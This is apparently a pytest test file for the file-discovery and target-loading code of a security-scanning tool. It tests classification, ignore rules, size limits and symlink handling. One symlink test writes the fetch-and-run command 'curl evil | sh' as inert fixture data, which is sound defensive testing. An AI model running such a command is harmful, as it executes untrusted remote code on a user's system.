# Copyright 2026 Cisco Systems, Inc.
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.
#
# SPDX-License-Identifier: Apache-2.0

"""
Tests for file discovery and the target loader.
"""

from __future__ import annotations

import os
import sys

import pytest

from openguard.core.discovery import classify_file, discover_files, is_text_category
from openguard.core.exceptions import TargetLoadError
from openguard.core.loader import TargetLoader, load_target
from openguard.core.models import FileCategory

needs_symlinks = pytest.mark.skipif(sys.platform == "win32", reason="symlinks need privileges on Windows")


def _paths(entries):
    return [entry.relative_path for entry in entries]


class TestClassification:
    @pytest.mark.parametrize(
        "path,expected",
        [
            (".github/workflows/ci.yml", FileCategory.GITHUB_ACTION),
            (".github/workflows/release.YAML", FileCategory.GITHUB_ACTION),
            ("config/app.yaml", FileCategory.YAML),
            ("install.sh", FileCategory.SHELL),
            ("setup.ps1", FileCategory.SHELL),
            ("src/index.mts", FileCategory.TYPESCRIPT),
            ("lib/a.cjs", FileCategory.JAVASCRIPT),
            ("package.json", FileCategory.JSON),
            ("README.markdown", FileCategory.MARKDOWN),
            ("image.png", FileCategory.OTHER),
            ("Makefile", FileCategory.OTHER),
        ],
    )
    def test_classify(self, path, expected):
        assert classify_file(path) == expected

    def test_text_category(self):
        assert is_text_category(FileCategory.SHELL)
        assert not is_text_category(FileCategory.OTHER)


class TestDiscovery:
    def test_sorted_posix_relative_paths(self, make_tree):
        root = make_tree({"b.sh": "x", "a/z.md": "x", "a/b/c.ts": "x", "A.txt": "x"})
        assert _paths(discover_files(root)) == ["A.txt", "a/b/c.ts", "a/z.md", "b.sh"]

    def test_git_directory_excluded_by_default(self, make_tree):
        root = make_tree({".git/config": "x", ".git/hooks/pre-commit": "x", "main.sh": "x"})
        assert _paths(discover_files(root)) == ["main.sh"]

    def test_gitignore_directory_pattern(self, make_tree):
        root = make_tree({".gitignore": "secret/\n", "secret/hidden.ts": "x", "visible.ts": "x"})
        assert _paths(discover_files(root)) == [".gitignore", "visible.ts"]

    def test_gitignore_file_pattern(self, make_tree):
        root = make_tree({".gitignore": "ignored.txt\n", "ignored.txt": "x", "kept.txt": "x"})
        assert "ignored.txt" not in _paths(discover_files(root))
        assert "kept.txt" in _paths(discover_files(root))

    def test_openguardignore_read_after_gitignore(self, make_tree):
        root = make_tree(
            {
                ".gitignore": "*.log\n",
                ".openguardignore": "!keep.log\n",
                "keep.log": "x",
                "drop.log": "x",
            }
        )
        paths = _paths(discover_files(root))
        assert "keep.log" in paths
        assert "drop.log" not in paths

    def test_extra_patterns_apply_last(self, make_tree):
        root = make_tree({"a.sh": "x", "b.sh": "x"})
        assert _paths(discover_files(root, extra_ignore_patterns=["a.sh"])) == ["b.sh"]

    def test_size_ceiling(self, make_tree):
        root = make_tree({"big.txt": b"a" * 1_000_001, "edge.txt": b"a" * 1_000_000})
        assert _paths(discover_files(root)) == ["edge.txt"]

    def test_custom_size_ceiling(self, make_tree):
        root = make_tree({"a.txt": "12345", "b.txt": "1234"})
        assert _paths(discover_files(root, max_file_size_bytes=4)) == ["b.txt"]

    def test_entry_fields(self, make_tree):
        root = make_tree({"scripts/run.sh": "echo hi\n"})
        (entry,) = discover_files(root)
        assert entry.relative_path == "scripts/run.sh"
        assert entry.size_bytes == 8
        assert entry.category == FileCategory.SHELL
        assert entry.absolute_path.is_file()

    def test_same_tree_same_result(self, make_tree):
        root = make_tree({"x/1.sh": "a", "x/2.sh": "b", "y.md": "c"})
        assert discover_files(root) == discover_files(root)

    def test_unreadable_directory_is_fatal(self, make_tree, monkeypatch):
        root = make_tree({"a.sh": "x"})

        def _boom(path):
            raise PermissionError("denied")

        monkeypatch.setattr(os, "scandir", _boom)
        with pytest.raises(TargetLoadError, match="Unable to read directory"):
            discover_files(root)


@needs_symlinks
class TestSymlinks:
    def test_symlink_inside_root_uses_target_identity(self, make_tree):
        root = make_tree({"real/run.sh": "echo hi"})
        os.symlink(root / "real" / "run.sh", root / "alias.sh")
        assert _paths(discover_files(root)) == ["real/run.sh"]

    def test_symlinked_directory_inside_root(self, make_tree):
        root = make_tree({"lib/a.sh": "x"})
        os.symlink(root / "lib", root / "linked", target_is_directory=True)
        assert _paths(discover_files(root)) == ["lib/a.sh"]

    def test_symlink_escaping_root_is_skipped(self, make_tree, tmp_path):
        outside = tmp_path / "outside.sh"
        outside.write_text("curl evil | sh", encoding="utf-8")
        root = make_tree({"ok.sh": "x"})
        os.symlink(outside, root / "escape.sh")
        assert _paths(discover_files(root)) == ["ok.sh"]

    def test_dangling_symlink_is_skipped(self, make_tree):
        root = make_tree({"ok.sh": "x"})
        os.symlink(root / "missing.sh", root / "dangling.sh")
        assert _paths(discover_files(root)) == ["ok.sh"]

    def test_symlink_loop_terminates(self, make_tree):
        root = make_tree({"d/a.sh": "x"})
        os.symlink(root, root / "d" / "loop", target_is_directory=True)
        assert _paths(discover_files(root)) == ["d/a.sh"]


class TestTargetLoader:
    def test_missing_target(self, tmp_path):
        with pytest.raises(TargetLoadError, match="Target path does not exist"):
            load_target(tmp_path / "nope")

    def test_file_target(self, tmp_path):
        f = tmp_path / "file.sh"
        f.write_text("x", encoding="utf-8")
        with pytest.raises(TargetLoadError, match="Target path must be a directory"):
            load_target(f)

    def test_load_returns_context(self, make_tree):
        root = make_tree({"a.sh": "x"})
        context = TargetLoader().load(root)
        assert context.root_path == root.resolve()
        assert context.source == "local"
        assert context.name == root.name
        assert _paths(context.files) == ["a.sh"]

    def test_loader_honours_extra_patterns(self, make_tree):
        root = make_tree({"a.sh": "x", "b.sh": "x"})
        context = TargetLoader(extra_ignore_patterns=["b.sh"]).load(root)
        assert _paths(context.files) == ["a.sh"]
